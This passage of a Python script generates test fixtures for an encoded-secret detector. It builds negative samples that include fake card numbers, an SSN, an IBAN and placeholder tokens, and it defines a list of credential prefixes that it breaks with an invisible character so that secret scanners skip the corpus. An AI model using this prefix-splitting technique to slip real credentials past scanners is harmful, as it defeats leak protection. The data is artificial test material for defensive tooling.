    '{"ids":["' + '","'.join(str(uuid.UUID(bytes=rbytes(16), version=4)) for _ in range(6)) + '"]}',
    'commit ' + hashlib.sha1(rbytes(8)).hexdigest() + ' parent ' + hashlib.sha1(rbytes(8)).hexdigest() + ' tree ' + hashlib.sha1(rbytes(8)).hexdigest(),
    '{"checksum":"sha256:' + hashlib.sha256(rbytes(8)).hexdigest() + '","integrity":"sha512-' + base64.b64encode(hashlib.sha512(rbytes(8)).digest()).decode() + '"}',
    '{"nonce":"' + base64.urlsafe_b64encode(rbytes(24)).decode() + '","etag":"W/\\"' + base64.b64encode(rbytes(18)).decode() + '\\""}',
    '{"encoding":"base64","content":"' + wrap(b64("def handler(event, context):\n    return {\"status\": 200, \"body\": event.get(\"path\")}\n" * 4)) + '"}',
    'Location: https://login.example.net/authorize?redirect_uri=https%3A%2F%2Fapp.example.net%2Fcb%3Fq%3D1&scope=openid%20profile&state='
        + b64u('{"return_to":"/projects/42","nonce":"' + rbytes(8).hex() + '"}'),
    'blob ' + hexe("The quick brown fox jumps over the lazy dog, build 2.20.1 on 2026-11-23."),
    'data=' + b64("card 4111 1111 1111 1112 (declined: invalid number)"),
    'key ' + hexe("AKIA" + rnd(B32, 15)),
    '{"v":"' + b64("IBAN DE88370400440532013000") + '"}',
    'q=' + pct("write to someone@example.com or admin@test.example"),
    '{"v":"' + b64("SSN 666-12-3456") + '"}',
    '{"v":"' + b64u("SLACK_BOT_TOKEN=xoxb-your-bot-token") + '"}',
    '{"v":"' + b64('{"password": "<your-password>"}') + '"}',
    '{"publicKey":"' + b64(pem("PUBLIC KEY")) + '"}',
    'tracking ' + b64(luhn_complete("4", 20)),
    '{"cursor":"' + base64.b64encode(b"\x08\x96\x01\x12\x06" + rbytes(20)).decode() + '"}',
    'src/main/java/dev/gatehouse/inspection/EncodedContentTest I_kwDOAbCdEf5xYz12 AbstractSingletonProxyFactoryBean jackson-databind-2.20.1',
]
for text in negatives:
    add("encoded", [], text)

# Secret scanners (and push protection) must not mistake this corpus for a leak: token prefixes are
# stored broken by MARK, which CorpusTest removes before inspecting.
MARK = "\u205e"
PREFIXES = ["AKIA", "ASIA", "ABIA", "ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-", "gldt-", "glrt-", "glptt-",
            "xoxb-", "xoxp-", "hooks.slack.com", "sk_live_", "sk_test_", "rk_live_", "rk_test_", "whsec_", "PRIVATE KEY"]
def mark(text):
    for p in PREFIXES:
        text = text.replace(p, p[:2] + MARK + p[2:])
    return text

for name, rows in out.items():
    with open(name + ".jsonl", "w") as f:
        for r in rows:
            f.write(json.dumps({"expect": r["expect"], "text": mark(r["text"])}) + "\n")
print({k: len(v) for k, v in out.items()})
